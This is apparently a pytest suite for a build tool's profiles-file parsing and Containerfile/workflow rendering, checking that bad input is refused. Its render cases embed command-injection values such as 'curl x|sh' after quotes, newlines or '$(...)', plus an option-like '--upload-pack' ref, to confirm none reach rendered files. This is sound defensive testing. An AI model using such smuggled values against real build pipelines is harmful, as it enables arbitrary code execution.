"""Profiles files and the files rendered from them (`render ci`, `render container`).

A bad profiles file is exit 2 with one line naming the file and the key. A value that ends up
in a rendered Containerfile or workflow either passes a strict format check or is refused
(exit 2): nothing from the command line or a profile may become a shell command there.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from .conftest import Box
from .support import assert_error_code, assert_ok, run_main, snapshot

GOOD_PROFILE = b"""\
[profiles.lab]
description = "lab box"
arch = ["86"]
exclude-arch = ["50"]
"""

# (case id, profiles file bytes, expected exit code of `plan --profile lab`)
PROFILE_CASES: list[tuple[str, bytes, int]] = [
    ("valid", GOOD_PROFILE, 0),
    ("valid-single-string-for-list", b'[profiles.lab]\narch = "86"\n', 0),
    ("valid-integer-arch", b"[profiles.lab]\narch = 86\n", 0),
    ("non-utf8-bytes", b'[profiles.lab]\ndescription = "\xff\xfe"\narch = ["86"]\n', 2),
    ("non-utf8-comment", b'# \xe9t\xe9\n[profiles.lab]\narch = ["86"]\n', 2),
    ("utf8-bom", b"\xef\xbb\xbf" + GOOD_PROFILE, 2),
    ("utf16", GOOD_PROFILE.decode().encode("utf-16"), 2),
    ("empty-file", b"", 2),
    ("not-toml", b"this is not toml = = =\n", 2),
    ("profiles-is-a-number", b"profiles = 5\n", 2),
    ("profiles-is-a-list", b"profiles = [1, 2]\n", 2),
    ("profile-is-a-number", b"[profiles]\nlab = 5\n", 2),
    ("profile-is-a-list", b"[profiles]\nlab = [\"86\"]\n", 2),
    ("unknown-top-level-key", b"[profile.lab]\narch = [\"86\"]\n", 2),
    ("profile-name-with-space", b'[profiles."la b"]\narch = ["86"]\n', 2),
    ("profile-name-with-quote", b'[profiles."lab\\"x"]\narch = ["86"]\n', 2),
    ("profile-name-with-newline", b'[profiles."lab\\nRUN x"]\narch = ["86"]\n', 2),
    ("unknown-option", b'[profiles.lab]\narchs = ["86"]\n', 2),
    ("cli-only-option", b'[profiles.lab]\nprofile = "x"\narch = ["86"]\n', 2),
    ("global-flag-as-option", b'[profiles.lab]\ndry-run = true\narch = ["86"]\n', 2),
    ("nested-list", b"[profiles.lab]\narch = [[86]]\n", 2),
    ("inline-table", b"[profiles.lab]\narch = {x = 1}\n", 2),
    ("nested-table", b'[profiles.lab]\narch = ["86"]\n[profiles.lab.extra]\nx = 1\n', 2),
    ("boolean-in-list", b"[profiles.lab]\narch = [true]\n", 2),
    ("datetime-value", b"[profiles.lab]\narch = [\"86\"]\nref = 1979-05-27\n", 2),
    ("description-not-string", b'[profiles.lab]\ndescription = 5\narch = ["86"]\n', 2),
    ("switch-not-boolean", b'[profiles.lab]\narch = ["86"]\nverify = "yes"\n', 2),
    ("choice-unknown", b'[profiles.lab]\narch = ["86"]\nptx = "some"\n', 2),
    ("list-for-single-value", b'[profiles.lab]\narch = ["86"]\nmin-arch = ["75"]\n', 2),
    ("arch-empty-string", b'[profiles.lab]\narch = [""]\n', 2),
    ("arch-garbage", b'[profiles.lab]\narch = ["eighty-six"]\n', 2),
    ("ref-empty-string", b'[profiles.lab]\narch = ["86"]\nref = ""\n', 2),
    ("jobs-negative", b'[profiles.lab]\narch = ["86"]\njobs = -4\n', 2),
    ("jobs-text", b'[profiles.lab]\narch = ["86"]\njobs = "many"\n', 2),
    ("jobs-infinite", b'[profiles.lab]\narch = ["86"]\njobs = inf\n', 2),
    ("epoch-negative", b'[profiles.lab]\narch = ["86"]\nsource-date-epoch = -1\n', 2),
    ("epoch-text", b'[profiles.lab]\narch = ["86"]\nsource-date-epoch = "yesterday"\n', 2),
    ("integer-overflow-arch", b"[profiles.lab]\narch = 99999999999999999999\n", 2),
    ("deeply-nested-arrays", b"[profiles.lab]\narch = " + b"[" * 50_000 + b"]" * 50_000 + b"\n", 2),
    ("deeply-nested-inline-tables", b"[profiles.lab]\narch = " + b"{a=" * 50_000 + b"1" + b"}" * 50_000 + b"\n", 2),
    ("inventory-missing-file", b'[profiles.lab]\narch = ["86"]\ninventory = "nowhere.json"\n', 4),
    ("duplicate-key", b'[profiles.lab]\narch = ["86"]\narch = ["75"]\n', 2),
    ("source-and-source-dir", b'[profiles.lab]\narch = ["86"]\nsource = "x"\nsource-dir = "y"\n', 2),
]  # fmt: skip


@pytest.mark.parametrize(
    ("data", "expected"), [pytest.param(d, c, id=n) for n, d, c in PROFILE_CASES]
)
def test_profiles_file(
    data: bytes, expected: int, box: Box, capsys: pytest.CaptureFixture[str]
) -> None:
    path = box.file("ollama-build.toml", data)
    argv = ["plan", "--profiles-file", str(path), "--profile", "lab", "--json"]
    if b"inventory" not in data:  # the command line would override the profile's
        argv += ["--inventory", str(box.inventory)]
    outcome = run_main(argv, capsys)
    if expected == 0:
        assert_ok(outcome, json_out=True)
    else:
        assert_error_code(outcome, expected)


PYPROJECT_CASES = [
    ("valid", b'[tool.build_tools.profiles.lab]\narch = ["86"]\n', 0),
    ("tool-is-a-number", b"tool = 5\n", 2),
    ("build-tools-is-a-number", b"[tool]\nbuild_tools = 5\n", 2),
    ("build-tools-is-a-list", b"[tool]\nbuild_tools = [1]\n", 2),
    ("no-build-tools-table", b"[tool.other]\nx = 1\n", 2),
    ("non-utf8", b'[tool.build_tools.profiles.lab]\narch = ["\xff"]\n', 2),
]


@pytest.mark.parametrize(
    ("data", "expected"), [pytest.param(d, c, id=n) for n, d, c in PYPROJECT_CASES]
)
def test_pyproject_profiles(
    data: bytes, expected: int, box: Box, capsys: pytest.CaptureFixture[str]
) -> None:
    """Profiles found in ./pyproject.toml (no --profiles-file)."""
    Path("pyproject.toml").write_bytes(data)
    argv = ["plan", "--profile", "lab", "--inventory", str(box.inventory), "--json"]
    outcome = run_main(argv, capsys)
    if expected == 0:
        assert_ok(outcome, json_out=True)
    else:
        assert_error_code(outcome, expected)


def _special(kind: str, box: Box) -> Path:
    path = box.root / "special.toml"
    if kind == "directory":
        path.mkdir()
    elif kind == "symlink-loop":
        path.symlink_to(path)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-null":
        return Path(os.devnull)
    return path


@pytest.mark.parametrize("kind", ["missing", "directory", "symlink-loop", "fifo", "dev-null"])
def test_profiles_path(kind: str, box: Box, capsys: pytest.CaptureFixture[str]) -> None:
    path = _special(kind, box)
    argv = ["plan", "--profiles-file", str(path), "--profile", "lab", "--inventory",
            str(box.inventory)]  # fmt: skip
    assert_error_code(run_main(argv, capsys), 2)


def test_profile_without_any_profiles_file(box: Box, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["plan", "--profile", "lab", "--inventory", str(box.inventory)]
    assert_error_code(run_main(argv, capsys), 2, contains=["profiles file"])


# --- render ----------------------------------------------------------------------------------

RENDER_PROFILE = """\
[profiles.lab]
description = {description}
ref = {ref}
cuda = {cuda}
arch = ["86"]
"""
SAFE = {"description": '"lab box"', "ref": '"v0.24.0"', "cuda": '"12.4"'}
PINNED = "docker.io/library/debian:bookworm@sha256:" + "ab" * 32


def _profiles(box: Box, inside: bool = True, **values: str) -> Path:
    """The profiles to render; by default in the current directory, the repository root a
    rendered file reads them from (a profiles file outside it is refused, see below)."""
    text = RENDER_PROFILE.format(**{**SAFE, **values})
    if not inside:
        return box.file("ollama-build.toml", text)
    path = Path.cwd() / "ollama-build.toml"
    path.write_text(text, encoding="utf-8")
    return path


# (case id, kind, profile overrides, extra options, expected exit code)
RENDER_CASES: list[tuple[str, str, dict[str, str], list[str], int]] = [
    ("container-valid", "container", {}, [], 0),
    ("ci-valid", "ci", {}, [], 0),
    ("container-base-image-valid", "container", {}, ["--base-image", PINNED], 0),
    ("go-version-shell-injection", "container", {}, ["--go-version", '1.2" && curl x|sh #'], 2),
    ("go-version-newline", "container", {}, ["--go-version", "1.26.6\nRUN curl x|sh"], 2),
    ("go-version-command-substitution", "container", {}, ["--go-version", "$(curl x|sh)"], 2),
    ("go-version-empty", "container", {}, ["--go-version", ""], 2),
    ("go-version-ci-injection", "ci", {}, ["--go-version", '1.2" && curl x|sh #'], 2),
    ("go-version-ci-newline", "ci", {}, ["--go-version", "1.2\n      - run: curl x|sh"], 2),
    ("base-image-trailing-newline", "container", {}, ["--base-image", PINNED + "\n"], 2),
    ("base-image-newline-injection", "container", {},
     ["--base-image", PINNED + "\nRUN curl x|sh"], 2),
    ("base-image-unpinned", "container", {}, ["--base-image", "debian:bookworm"], 2),
    ("apt-snapshot-trailing-newline", "container", {}, ["--apt-snapshot", "20251229T000000Z\n"], 2),
    ("apt-snapshot-injection", "container", {}, ["--apt-snapshot", "x; curl x|sh"], 2),
    ("epoch-negative", "container", {}, ["--source-date-epoch", "-1"], 2),
    ("epoch-text", "container", {}, ["--source-date-epoch", "abc"], 2),
    ("epoch-huge", "container", {}, ["--source-date-epoch", "99999999999999999999"], 2),
    ("profile-ref-newline", "container", {"ref": '"v0.24.0\\nRUN curl x|sh"'}, [], 2),
    ("profile-ref-space", "ci", {"ref": '"v0.24.0 && curl x"'}, [], 2),
    ("profile-ref-option-like", "ci", {"ref": '"--upload-pack=touch x"'}, [], 2),
    ("profile-cuda-quote", "container", {"cuda": '"12.4\\" && curl x|sh #"'}, [], 2),
    ("profile-cuda-newline", "container", {"cuda": '"12.4\\nRUN curl x|sh"'}, [], 2),
    ("unknown-profile", "container", {}, ["--profile", "nope"], 2),
]  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "values", "extra", "expected"),
    [pytest.param(k, v, e, c, id=n) for n, k, v, e, c in RENDER_CASES],
)
def test_render_values(
    kind: str,
    values: dict[str, str],
    extra: list[str],
    expected: int,
    box: Box,
    capsys: pytest.CaptureFixture[str],
) -> None:
    profiles = _profiles(box, True, **values)
    output = box.root / "out" / ("Containerfile" if kind == "container" else "workflow.yml")
    argv = ["render", kind, "--profiles-file", str(profiles), "--output", str(output), *extra]
    outcome = run_main(argv, capsys)
    if expected == 0:
        assert_ok(outcome)
        text = output.read_text()
        assert not re.search(r"^\s*RUN curl|curl x\|sh", text, re.M), text
    else:
        assert_error_code(outcome, expected)
        assert not output.exists(), "a refused render must not write its output"


@pytest.mark.parametrize("kind", ["container", "ci"])
def test_render_description_cannot_inject(
    kind: str, box: Box, capsys: pytest.CaptureFixture[str]
) -> None:
    """A free-text description is quoted or refused, never a line of its own."""
    profiles = _profiles(box, description='"lab\\nRUN curl x|sh\\n  evil: true"')
    output = box.root / "out.txt"
    argv = ["render", kind, "--profiles-file", str(profiles), "--output", str(output)]
    outcome = run_main(argv, capsys)
    if outcome.code == 0:
        text = output.read_text()
        assert not re.search(r"^\s*(RUN curl|evil: true)", text, re.M), text
    else:
        assert_error_code(outcome, 2)


def test_render_container_from_another_directory(
    box: Box, capsys: pytest.CaptureFixture[str]
) -> None:
    """The profiles file must be inside the build context (cwd) or be refused: a
    `COPY ../..` line can never work in any container build."""
    profiles = _profiles(box, inside=False)
    elsewhere = box.root / "a" / "b"
    elsewhere.mkdir(parents=True)
    os.chdir(elsewhere)
    output = elsewhere / "Containerfile"
    argv = ["render", "container", "--profiles-file", str(profiles), "--output", str(output)]
    outcome = run_main(argv, capsys)
    if outcome.code == 0:
        text = output.read_text()
        assert not re.search(r"^COPY .*\.\./", text, re.M), text
    else:
        assert_error_code(outcome, 2)
        assert not output.exists()


def test_render_ci_without_profiles_file_names_the_problem(
    capsys: pytest.CaptureFixture[str],
) -> None:
    outcome = run_main(["render", "ci"], capsys)
    assert_error_code(outcome, 2, not_contains=["--profile needs"])


OUTPUT_CASES = [
    ("is-a-directory", "DIR"),
    ("under-a-file", "FILE/out"),
    ("is-dev-full", "/dev/full"),
]


@pytest.mark.parametrize("kind", ["container", "ci"])
@pytest.mark.parametrize(("where"), [pytest.param(w, id=n) for n, w in OUTPUT_CASES])
def test_render_output_unwritable(
    kind: str, where: str, box: Box, capsys: pytest.CaptureFixture[str]
) -> None:
    profiles = _profiles(box)
    a_dir = box.root / "a-dir"
    a_dir.mkdir()
    a_file = box.file("a-file", "x")
    output = where.replace("DIR", str(a_dir)).replace("FILE", str(a_file))
    before = snapshot(box.root)
    outcome = run_main(
        ["render", kind, "--profiles-file", str(profiles), "--output", output], capsys
    )
    assert_error_code(outcome, 2)
    assert snapshot(box.root) == before
